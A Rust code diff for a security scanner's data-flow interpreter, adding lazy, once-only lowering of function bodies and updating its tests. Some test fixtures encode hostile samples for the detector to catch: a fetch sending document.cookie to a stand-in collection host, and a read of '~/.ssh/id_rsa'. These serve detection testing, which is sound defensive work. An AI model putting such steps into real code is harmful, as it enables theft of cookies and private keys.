@@ -13,6 +13,7 @@
 //! other rules still see it).
 
 use foldhash::{HashMap, HashMapExt, HashSet, HashSetExt};
+use std::cell::OnceCell;
 use std::rc::Rc;
 
 use super::knowledge;
@@ -46,15 +47,15 @@ const MIN_DERIVED_CHARS: usize = 12;
 
 /// What each language's lowerer shares: the depth guard that keeps deeply nested input from
 /// exhausting the stack, and lowering a node's children in order.
-pub(crate) trait Lowerer {
+pub(crate) trait Lowerer<'t> {
     /// How deep the lowerer is in nested expressions.
     fn depth(&mut self) -> &mut u32;
 
     /// Lowers one expression node: the language's own forms.
-    fn lower_one(&mut self, node: tree_sitter::Node) -> Expr;
+    fn lower_one(&mut self, node: tree_sitter::Node<'t>) -> Expr;
 
     /// Lowers one expression; past [`MAX_EXPR_DEPTH`] levels the rest is unknown.
-    fn expr(&mut self, node: tree_sitter::Node) -> Expr {
+    fn expr(&mut self, node: tree_sitter::Node<'t>) -> Expr {
         if *self.depth() >= MAX_EXPR_DEPTH {
             return Expr::Other;
         }
@@ -65,7 +66,7 @@ pub(crate) trait Lowerer {
     }
 
     /// Lowers each named child of `node`, in order.
-    fn exprs(&mut self, node: tree_sitter::Node) -> Vec<Expr> {
+    fn exprs(&mut self, node: tree_sitter::Node<'t>) -> Vec<Expr> {
         let mut cursor = node.walk();
         node.named_children(&mut cursor)
             .map(|child| self.expr(child))
@@ -169,7 +170,40 @@ pub(crate) enum Stmt {
 pub(crate) struct Function {
     pub name: String,
     pub params: Vec<String>,
-    pub body: Vec<Stmt>,
+    pub body: Body,
+}
+
+/// A function's body, lowered the first time the function runs: most functions of a large
+/// file (a bundled library) never run, and lowering them all was most of the data-flow
+/// analysis' time.
+#[derive(Debug)]
+pub(crate) struct Body {
+    lowered: OnceCell<Vec<Stmt>>,
+    /// What the file's lowerer knows the body by, until it is lowered.
+    pending: Option<usize>,
+}
+
+impl Body {
+    /// A body already lowered.
+    pub fn lowered(statements: Vec<Stmt>) -> Body {
+        Body {
+            lowered: OnceCell::from(statements),
+            pending: None,
+        }
+    }
+
+    /// A body the lowerer lowers on demand, under `key` (see [`run`]).
+    pub fn pending(key: usize) -> Body {
+        Body {
+            lowered: OnceCell::new(),
+            pending: Some(key),
+        }
+    }
+
+    fn statements(&self, lower: &mut dyn FnMut(usize) -> Vec<Stmt>) -> &[Stmt] {
+        self.lowered
+            .get_or_init(|| self.pending.map(lower).unwrap_or_default())
+    }
 }
 
 /// What a secret is.
@@ -839,10 +873,17 @@ fn has_index_list(source: &str) -> bool {
 
 /// Interprets the lowered `body` of one file, reporting flows into `sink`; returns how many
 /// steps it took (at most [`MAX_STEPS`]: the rest of the file is then not interpreted).
-pub(crate) fn run(lang: Lang, body: &[Stmt], sink: &mut Sink) -> u32 {
+/// `lower_body` lowers a function body left [`Body::pending`] when the function first runs.
+pub(crate) fn run(
+    lang: Lang,
+    body: &[Stmt],
+    lower_body: &mut dyn FnMut(usize) -> Vec<Stmt>,
+    sink: &mut Sink,
+) -> u32 {
     let mut interp = Interp {
         lang,
         sink,
+        lower_body,
         scopes: vec![HashMap::new()],
         calls: Vec::new(),
         returns: Vec::new(),
@@ -869,9 +910,10 @@ pub(crate) fn run(lang: Lang, body: &[Stmt], sink: &mut Sink) -> u32 {
     interp.steps
 }
 
-struct Interp<'s, 'a> {
+struct Interp<'s, 'a, 'l> {
     lang: Lang,
     sink: &'s mut Sink<'a>,
+    lower_body: &'l mut dyn FnMut(usize) -> Vec<Stmt>,
     /// The module scope, then one per helper call being followed.
     scopes: Vec<HashMap<String, Value>>,
     /// Functions being followed (no recursion).
@@ -891,7 +933,7 @@ struct Interp<'s, 'a> {
     scanned: HashSet<u64>,
 }
 
-impl Interp<'_, '_> {
+impl Interp<'_, '_, '_> {
     fn spend(&mut self) -> bool {
         if self.steps >= MAX_STEPS {
             return false;
@@ -1984,7 +2026,8 @@ impl Interp<'_, '_> {
         self.scopes.push(scope);
         self.returns.push(None);
         let weak = std::mem::replace(&mut self.weak, 0);
-        self.block(&function.body);
+        let body = function.body.statements(&mut *self.lower_body);
+        self.block(body);
         self.weak = weak;
         self.scopes.pop();
         self.calls.pop();
@@ -2272,7 +2315,7 @@ mod tests {
     fn rules_of(lang: Lang, body: &[Stmt]) -> (Vec<rules::RuleId>, u32) {
         let text = "x\n".repeat(8);
         let mut sink = Sink::new("f", &text).with_shell(crate::scan::shell::scan);
-        let steps = run(lang, body, &mut sink);
+        let steps = run(lang, body, &mut |_| Vec::new(), &mut sink);
         let rules = sink.finish().0.iter().map(|f| f.rule).collect();
         (rules, steps)
     }
@@ -2283,7 +2326,10 @@ mod tests {
         let helper = Rc::new(Function {
             name: "load".into(),
             params: vec!["p".into()],
-            body: vec![Stmt::Return(call("open", vec![Expr::Var("p".into())]))],
+            body: Body::lowered(vec![Stmt::Return(call(
+                "open",
+                vec![Expr::Var("p".into())],
+            ))]),
         });
         let body = vec![
             Stmt::Def(helper),
@@ -2345,13 +2391,13 @@ mod tests {
         let handler = Rc::new(Function {
             name: "init".into(),
             params: vec![],
-            body: vec![Stmt::Eval(call(
+            body: Body::lowered(vec![Stmt::Eval(call(
                 "fetch",
                 vec![
                     Expr::Str("https://collect.example.net/c".into()),
                     Expr::Attr(Box::new(Expr::Var("document".into())), "cookie".into()),
                 ],
-            ))],
+            ))]),
         });
         let (rules, _) = rules_of(Lang::JavaScript, &[Stmt::Def(handler)]);
         assert!(rules.contains(&rules::CRED_EXFILTRATION), "{rules:?}");
@@ -2361,10 +2407,10 @@ mod tests {
             Rc::new(Function {
                 name: "load".into(),
                 params: vec![],
-                body: vec![Stmt::Return(call(
+                body: Body::lowered(vec![Stmt::Return(call(
                     "open",
                     vec![Expr::Str("~/.ssh/id_rsa".into())],
-                ))],
+                ))]),
             })
         };
         let (uncalled, _) = rules_of(Lang::Python, &[Stmt::Def(reader())]);
@@ -2561,6 +2607,39 @@ mod tests {
         assert!(!scan(checksum).contains(&rules::OBF_ENCODED_PAYLOAD));
     }
 
+    /// A function body is lowered when the function first runs, once, and never for a
+    /// function that does not run (past the [`MAX_DEFINED`] remembered ones).
+    #[test]
+    fn function_bodies_are_lowered_once_and_only_when_run() {
+        let defs: Vec<Stmt> = (0..MAX_DEFINED + 10)
+            .map(|key| {
+                Stmt::Def(Rc::new(Function {
+                    name: format!("f{key}"),
+                    params: vec![],
+                    body: Body::pending(key),
+                }))
+            })
+            .chain([
+                Stmt::Eval(call("f0", vec![])),
+                Stmt::Eval(call("f0", vec![])),
+            ])
+            .collect();
+        let mut lowered = Vec::new();
+        let mut sink = Sink::new("f", "");
+        run(
+            Lang::JavaScript,
+            &defs,
+            &mut |key| {
+                lowered.push(key);
+                vec![Stmt::Return(Expr::Str(format!("body {key}")))]
+            },
+            &mut sink,
+        );
+        // f0 is called twice and lowered once; the other remembered functions run for their
+        // flows; the ten past the bound never run and are never lowered.
+        assert_eq!(lowered, (0..MAX_DEFINED).collect::<Vec<_>>());
+    }
+
     /// The work bound: helpers called from everywhere, loops nested deep and values that
     /// double at each statement stop at [`MAX_STEPS`] and stay fast.
     #[test]
@@ -2582,7 +2661,7 @@ mod tests {
         let helper = Rc::new(Function {
             name: "h".into(),
             params: Vec::new(),
-            body: helper_body,
+            body: Body::lowered(helper_body),
         });
         let mut nested = vec![Stmt::Eval(call("h", Vec::new()))];
         for _ in 0..20 {
